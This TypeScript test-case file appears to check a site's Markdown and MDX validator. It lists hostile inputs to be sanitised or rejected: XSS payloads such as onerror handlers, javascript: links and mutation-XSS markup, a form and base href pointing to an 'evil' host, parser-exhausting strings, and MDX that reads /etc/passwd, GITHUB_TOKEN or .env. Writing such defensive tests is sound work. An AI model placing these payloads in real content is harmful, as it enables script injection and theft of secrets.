import { activity, body, type Case, each, input } from './writers.ts';

const details = (text: string) => activity({ details: text });

const html: readonly (readonly [id: string, what: string, text: string])[] = [
  ['MD-02', 'an event handler', '<img src=x onerror=alert(2)>'],
  ['MD-05', 'a hidden script', '<a href="jav&#x09;ascript:alert(5)">e</a>'],
  ['MD-08', 'a form', '<form action=https://evil><input name=p></form>'],
  ['MD-11', 'another base', '<base href="https://evil/">'],
  [
    'MD-12',
    'markup that mutates',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  ],
  ['MD-13', 'names that hide those of the page', '<a id=constructor></a><img name=body>'],
  ['MD-14', 'markup inside noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
];

const links: readonly (readonly [id: string, what: string, text: string])[] = [
  ['MD-03', 'a link', '[x](javascript:alert(3))'],
  ['MD-04', 'a picture', '![x](javascript:alert(4))'],
  ['MD-15', 'a link by reference', '[a]: javascript:alert(1)\n[click][a]'],
];

const harmless: readonly (readonly [id: string, what: string, text: string])[] = [
  ['MD-16', 'quotes in an address', '<https://x.cn/"onmouseover=alert(1)//>'],
  ['MD-17', 'quotes in a language', '```html"onload=alert(1)\nx\n```'],
  ['MD-18', 'quotes in a heading', '# 标题 {#x" onmouseover="alert(1)}'],
];

/** What of Markdown must not act, whether it is refused or let through. */
export const hostileMarkdown: readonly string[] = [...html, ...links, ...harmless].map(([, , text]) => text);

/** Markdown and MDX. What the check lets through, and what it refuses, is sanitised too: hostile-content.test.ts. */
export const prose: readonly Case[] = [
  ...html.map(
    ([id, what, text]): Case => ({
      id,
      outcome: 'sanitize',
      what,
      places: '40:14',
      inputs: [input(details(text), 'md-raw-html')],
    }),
  ),
  ...links.map(
    ([id, what, text]): Case => ({
      id,
      outcome: 'sanitize',
      what,
      places: '40:14',
      inputs: [input(details(text), 'url-scheme')],
    }),
  ),
  ...harmless.map(([id, what, text]): Case => ({ id, outcome: 'sanitize', what, inputs: [input(details(text), [])] })),
  {
    id: 'REF-05',
    outcome: 'reject',
    what: 'a broken link to this site',
    places: ['17:1', '19:1', '40:14', ''],
    inputs: [
      input(body('[见附件](/notices/n-404/#fujian-9)'), 'link-broken'),
      input(body('好\n\n[见](/notices/guyuan-24/#fujian-9)'), 'link-bad-hash'),
      input(details('[场馆](../venues/museum-square/)'), 'link-broken'),
      input(details('[时间](/notices/guyuan-24/#活动时间)'), []),
    ],
  },
  {
    id: 'MD-20',
    outcome: 'reject',
    what: 'text that takes a parser long',
    places: '40:14',
    inputs: each(
      ['['.repeat(19_000), '*a_'.repeat(6000), `${'>'.repeat(5000)}x`, '`'.repeat(19_999)],
      details,
      'md-too-complex',
    ).map((each, index) => (index === 3 ? { ...each, codes: [] } : each)),
    note: 'A run of backticks is read in linear time; fields take 20,000 characters, so that longer ones have text-length.',
  },
  {
    id: 'MDX-01',
    outcome: 'reject',
    what: 'MDX that exports',
    places: '19:1',
    inputs: [
      input(body('一\n\nexport const x = (await import("node:fs")).readFileSync("/etc/passwd","utf8")'), 'mdx-esm'),
    ],
  },
  {
    id: 'MDX-02',
    outcome: 'reject',
    what: 'MDX that reckons',
    places: '17:1',
    inputs: [input(body('{process.env.GITHUB_TOKEN}'), 'mdx-expression')],
  },
  {
    id: 'MDX-03',
    outcome: 'reject',
    what: 'MDX that passes code',
    places: '17:1',
    inputs: [
      input(body('<Note title={globalThis.process.exit(0)} {...props}/>'), 'mdx-attr-expr'),
      input(body('<Card title={globalThis.process.exit(0)} {...props}/>'), 'mdx-component'),
    ],
  },
  {
    id: 'MDX-04',
    outcome: 'reject',
    what: 'MDX with other components',
    places: '17:1 17:19 17:38',
    inputs: [input(body('<Iframe src="x"/> <script>…</script> <callout/>'), ['md-raw-html', 'mdx-component'])],
  },
  {
    id: 'MDX-05',
    outcome: 'reject',
    what: 'MDX that imports',
    places: '17:1',
    inputs: [input(body('import x from "../../.env?raw"'), 'mdx-esm')],
  },
];
